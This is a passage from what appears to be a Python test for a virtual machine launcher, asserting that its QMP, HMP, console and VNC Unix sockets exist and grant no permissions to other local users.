        runtime = [p for p in out.iterdir() if stat.S_ISSOCK(p.lstat().st_mode)]
        assert {"qmp.sock", "hmp.sock", "c1.sock", "vnc.sock"} <= {p.name for p in runtime}
        # other local users cannot connect (that needs write permission on the socket)
        open_to_others = {p.name: oct(p.lstat().st_mode & 0o077) for p in runtime if p.lstat().st_mode & 0o077}
        assert open_to_others == {}
    attacker.close()
